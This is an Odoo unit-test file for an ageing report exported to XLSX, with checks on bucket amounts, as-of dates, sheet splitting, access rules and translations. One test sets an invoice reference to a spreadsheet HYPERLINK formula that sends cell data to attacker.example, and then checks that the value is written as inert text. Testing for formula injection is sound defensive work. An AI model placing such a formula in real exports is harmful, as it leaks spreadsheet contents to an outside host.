from datetime import date
from unittest.mock import patch

from freezegun import freeze_time

from odoo import Command
from odoo.addons.account.tests.common import AccountTestInvoicingCommon
from odoo.addons.bo_base.tests.common import QueryGrowthMixin, XlsxReportMixin
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import Form, new_test_user, tagged

HEADERS_EN = [
    "Partner",
    "Not Due",
    "1-30 Days",
    "31-60 Days",
    "61-90 Days",
    "91-120 Days",
    "Over 120 Days",
    "Total",
]
AS_OF = date(2026, 3, 31)


@tagged("post_install", "-at_install", "bo_dates")
class TestAgeingXlsx(XlsxReportMixin, QueryGrowthMixin, AccountTestInvoicingCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.report_action = cls.env.ref("bo_reports.action_report_bo_ageing_xlsx")
        cls.rossi = cls.env["res.partner"].create({"name": "Rossi S.p.A."})
        cls.bianchi = cls.env["res.partner"].create({"name": "Bianchi S.r.l."})
        cls.verdi = cls.env["res.partner"].create({"name": "Verdi Forniture S.r.l."})
        # Rossi: 1000 due 9 Feb, 400 of it paid on 15 Feb; 1000 due 19 Apr.
        cls.rossi_old = cls._invoice(cls.rossi, date(2026, 1, 10), date(2026, 2, 9), 1000)
        cls.rossi_new = cls._invoice(cls.rossi, date(2026, 3, 20), date(2026, 4, 19), 1000)
        # Bianchi: 1000 due last October, 300 paid only on 10 April.
        cls.bianchi_old = cls._invoice(cls.bianchi, date(2025, 10, 1), date(2025, 10, 31), 1000)
        cls._pay(cls.rossi_old, date(2026, 2, 15), 400)
        cls._pay(cls.bianchi_old, date(2026, 4, 10), 300)

    @classmethod
    def _invoice(
        cls, partner, invoice_date, due_date, amount, move_type="out_invoice", company=None
    ):
        moves = cls.env["account.move"].with_company(company or cls.env.company)
        move_form = Form(moves.with_context(default_move_type=move_type))
        move_form.partner_id = partner
        move_form.invoice_date = invoice_date
        move_form.invoice_payment_term_id = cls.env["account.payment.term"]
        move_form.invoice_date_due = due_date
        with move_form.invoice_line_ids.new() as line:
            line.name = "Consulenza"
            line.price_unit = amount
            line.tax_ids.clear()
        move = move_form.save()
        move.action_post()
        return move

    @classmethod
    def _pay(cls, move, payment_date, amount):
        register = Form(
            cls.env["account.payment.register"].with_context(
                active_model="account.move", active_ids=move.ids
            )
        )
        register.payment_date = payment_date
        register.amount = amount
        register.save().action_create_payments()

    def _wizard(self, **values):
        return self._report_wizard("bo.ageing.report.wizard", values=values)

    def test_ageing_today_matches_open_amounts_of_journal_items(self):
        with freeze_time("2026-04-30"):
            wizard = self._wizard()
            self.assertEqual(wizard.as_of_date, date(2026, 4, 30))
            workbook = self._export(wizard)
        self.assertEqual(workbook.sheetnames, ["Ageing"])
        sheet = workbook["Ageing"]
        rows = self._rows(sheet)
        self.assertEqual(rows[0], HEADERS_EN)
        self.assertEqual(len(rows), 1 + 2 + 1, "header, Bianchi, Rossi, totals")
        groups = self.env["account.move.line"]._read_group(
            [
                ("company_id", "=", self.env.company.id),
                ("account_id.account_type", "=", "asset_receivable"),
                ("parent_state", "=", "posted"),
                ("reconciled", "=", False),
            ],
            ["partner_id"],
            ["amount_residual:sum"],
        )
        expected = {partner.name: residual for partner, residual in groups}
        self.assertEqual(expected, {"Rossi S.p.A.": 1600, "Bianchi S.r.l.": 700})
        amounts = self._by_first_cell(sheet)
        self.assertEqual({name: values[-1] for name, values in amounts.items()}, expected)
        # Rossi: 600 due 80 days ago, 1000 due 11 days ago; Bianchi: 181 days.
        self.assertEqual(amounts["Rossi S.p.A."], [0, 1000, 0, 600, 0, 0, 1600])
        self.assertEqual(amounts["Bianchi S.r.l."], [0, 0, 0, 0, 0, 700, 700])
        self.assertEqual(rows[-1], ["Total", 0, 1000, 0, 600, 0, 700, 2300])

    def test_totals_are_sum_formulas_with_header_frozen_and_filtered(self):
        workbook = self._export(self._wizard(as_of_date=AS_OF), formulas=True)
        sheet = workbook["Ageing"]
        self.assertEqual(sheet.freeze_panes, "B5")
        self.assertEqual(sheet.auto_filter.ref, "A4:H6")
        totals = self._rows(sheet)[-1]
        self.assertEqual(totals[0], "Total")
        self.assertEqual(totals[1:], [f"=SUM({col}5:{col}6)" for col in "BCDEFGH"])
        self.assertEqual(sheet["H5"].value, "=SUM(B5:G5)")
        self.assertIn("#,##0.00", sheet["B5"].number_format)

    def test_past_date_shows_what_was_open_then(self):
        # A later invoice did not exist on the as-of date, and the 300 paid by
        # Bianchi on 10 April had not been paid yet.
        self._invoice(self.bianchi, date(2026, 4, 5), date(2026, 5, 5), 250)
        amounts = self._by_first_cell(self._export(self._wizard(as_of_date=AS_OF))["Ageing"])
        self.assertEqual(amounts["Bianchi S.r.l."], [0, 0, 0, 0, 0, 1000, 1000])
        # Rossi had paid 400 of the invoice due 50 days before; the other is not due.
        self.assertEqual(amounts["Rossi S.p.A."], [1000, 0, 600, 0, 0, 0, 1600])

    def test_ageing_by_invoice_date_moves_items_between_periods(self):
        wizard = self._wizard(as_of_date=AS_OF, basis="invoice")
        amounts = self._by_first_cell(self._export(wizard)["Ageing"])
        # Invoiced 11 and 80 days before, instead of not due and 50 days overdue.
        self.assertEqual(amounts["Rossi S.p.A."], [0, 1000, 0, 600, 0, 0, 1600])
        # Invoiced 181 days before: still over 120 days.
        self.assertEqual(amounts["Bianchi S.r.l."], [0, 0, 0, 0, 0, 1000, 1000])

    def test_partner_filter_keeps_only_chosen_partners(self):
        wizard = self._wizard(as_of_date=AS_OF)
        wizard.partner_ids = self.rossi
        self.assertEqual(
            list(self._by_first_cell(self._export(wizard)["Ageing"])), ["Rossi S.p.A."]
        )

    def test_payables_due_schedule_by_coming_week(self):
        self._invoice(self.verdi, date(2026, 3, 1), date(2026, 3, 26), 200, "in_invoice")
        self._invoice(self.verdi, date(2026, 3, 10), date(2026, 4, 9), 500, "in_invoice")
        self._invoice(self.verdi, date(2026, 3, 15), date(2026, 7, 1), 800, "in_invoice")
        workbook = self._export(self._wizard(as_of_date=AS_OF, kind="payable"))
        self.assertEqual(workbook.sheetnames, ["Ageing", "Due Schedule"])
        ageing = self._by_first_cell(workbook["Ageing"])
        self.assertEqual(ageing, {"Verdi Forniture S.r.l.": [1300, 200, 0, 0, 0, 0, 1500]})
        schedule = workbook["Due Schedule"]
        headers = self._rows(schedule)[0]
        self.assertEqual(
            headers[:4], ["Partner", "Overdue", "Week of 03/31/2026", "Week of 04/07/2026"]
        )
        self.assertEqual(headers[-2:], ["Later", "Total"])
        self.assertEqual(len(headers), 1 + 1 + 8 + 1 + 1)
        # Due 5 days ago, in the second week (9 April), after eight weeks.
        self.assertEqual(
            self._by_first_cell(schedule)["Verdi Forniture S.r.l."],
            [200, 0, 500, 0, 0, 0, 0, 0, 0, 800, 1500],
        )

    def test_open_items_sheet_continues_past_row_limit(self):
        self.rossi_new.ref = '=HYPERLINK("http://attacker.example/?"&A1,"Apri")'
        report_class = type(self.env["report.bo_reports.ageing_xlsx"])
        wizard_class = type(self.env["bo.ageing.report.wizard"])
        # Four rows before the items: two items per sheet; one partner per query.
        with (
            patch.object(report_class, "_max_sheet_rows", 6),
            patch.object(wizard_class, "_detail_batch_size", 1),
        ):
            workbook = self._export(self._wizard(as_of_date=AS_OF, detail=True))
        self.assertEqual(workbook.sheetnames, ["Ageing", "Open Items", "Open Items (2)"])
        first, second = workbook["Open Items"], workbook["Open Items (2)"]
        self.assertEqual(
            self._rows(first)[0],
            [
                "Partner",
                "Document",
                "Reference",
                "Invoice Date",
                "Due Date",
                "Days",
                "Open Amount",
                "Period",
            ],
        )
        items = self._rows(first)[1:] + self._rows(second)[1:]
        self.assertEqual(len(self._rows(first)), 3)
        self.assertEqual(
            [(row[0], row[1], row[5], row[6], row[7]) for row in items],
            [
                ("Bianchi S.r.l.", self.bianchi_old.name, 151, 1000, "Over 120 Days"),
                ("Rossi S.p.A.", self.rossi_old.name, 50, 600, "31-60 Days"),
                ("Rossi S.p.A.", self.rossi_new.name, -19, 1000, "Not Due"),
            ],
        )
        self.assertEqual(items[2][2], self.rossi_new.ref)
        self.assertEqual(second.cell(row=5, column=3).data_type, "s")
        due_cell = second.cell(row=5, column=5)
        self.assertTrue(due_cell.is_date)
        self.assertEqual(due_cell.value.date(), date(2026, 4, 19))
        self.assertEqual(due_cell.number_format, "mm/dd/yyyy")

    def test_query_count_does_not_grow_with_partners(self):
        def export():
            wizard = self._wizard(as_of_date=AS_OF)
            return self.count_queries(lambda: self._export(wizard))[1]

        export()  # caches warmed up
        queries = export()
        for number in range(4):
            partner = self.env["res.partner"].create({"name": f"Cliente {number}"})
            self._invoice(partner, date(2026, 3, 1), date(2026, 3, 31), 100)
        self.assertEqual(export(), queries)

    def test_another_companys_items_stay_out(self):
        other = self.setup_other_company(name="Altra Azienda S.p.A.")["company"]
        self.env.user.company_ids |= other
        other_invoice = self._invoice(
            self.rossi, date(2026, 3, 1), date(2026, 3, 2), 5000, company=other
        )
        self.assertEqual(other_invoice.company_id, other)
        accountant = new_test_user(
            self.env,
            login="ageing_accountant",
            groups="account.group_account_invoice",
            company_id=self.env.company.id,
            company_ids=[Command.set(self.env.company.ids)],
        )
        env = self.env(user=accountant, context={"allowed_company_ids": self.env.company.ids})
        wizard = self._wizard(as_of_date=AS_OF).with_env(env)
        amounts = self._by_first_cell(self._export(wizard)["Ageing"])
        self.assertEqual(amounts["Rossi S.p.A."][-1], 1600)
        with self.assertRaises(ValidationError):
            env["bo.ageing.report.wizard"].create({"company_id": other.id})
        # Even a wizard forged on the other company gives nothing away.
        self.env.cr.execute(
            "UPDATE bo_ageing_report_wizard SET company_id = %s WHERE id = %s",
            (other.id, wizard.id),
        )
        wizard.invalidate_recordset()
        with self.assertRaises(AccessError):
            self._export(wizard)

    def test_headers_and_dates_in_italian(self):
        self.env["res.lang"]._activate_lang("it_IT")
        self.env["ir.module.module"]._load_module_terms(["bo_reports"], ["it_IT"])
        self.env.user.lang = "it_IT"
        wizard = self._wizard(as_of_date=AS_OF, detail=True).with_context(lang="it_IT")
        workbook = self._export(wizard)
        self.assertEqual(workbook.sheetnames, ["Anzianità", "Partite aperte"])
        self.assertEqual(
            self._rows(workbook["Anzianità"])[0],
            [
                "Partner",
                "Non scaduto",
                "1-30 giorni",
                "31-60 giorni",
                "61-90 giorni",
                "91-120 giorni",
                "Oltre 120 giorni",
                "Totale",
            ],
        )
        self.assertEqual(self._rows(workbook["Anzianità"])[-1][-1], 2600)
        detail = workbook["Partite aperte"]
        self.assertEqual(detail.cell(row=5, column=8).value, "Oltre 120 giorni")
        self.assertEqual(detail.cell(row=5, column=5).number_format, "dd/mm/yyyy")

    def test_accountants_and_back_office_managers_find_the_report(self):
        accountant = new_test_user(
            self.env, login="ageing_invoicing", groups="account.group_account_invoice"
        )
        manager = new_test_user(
            self.env,
            login="ageing_bo_manager",
            groups="bo_base.group_bo_manager,account.group_account_readonly",
        )
        clerk = new_test_user(self.env, login="ageing_bo_clerk", groups="bo_base.group_bo_user")
        menus = self.env["ir.ui.menu"]
        accounting_menu = self.env.ref("bo_reports.menu_bo_ageing_report_accounting")
        back_office_menu = self.env.ref("bo_reports.menu_bo_ageing_report")
        self.assertIn(accounting_menu.id, menus.with_user(accountant)._visible_menu_ids())
        self.assertIn(back_office_menu.id, menus.with_user(manager)._visible_menu_ids())
        self.assertNotIn(back_office_menu.id, menus.with_user(clerk)._visible_menu_ids())
        self.assertNotIn(accounting_menu.id, menus.with_user(clerk)._visible_menu_ids())
        with self.assertRaises(AccessError):
            self.env["bo.ageing.report.wizard"].with_user(clerk).create({})
        wizard = (
            self.env["bo.ageing.report.wizard"].with_user(manager).create({"as_of_date": AS_OF})
        )
        self.assertEqual(
            self._by_first_cell(self._export(wizard)["Ageing"])["Rossi S.p.A."][-1], 1600
        )
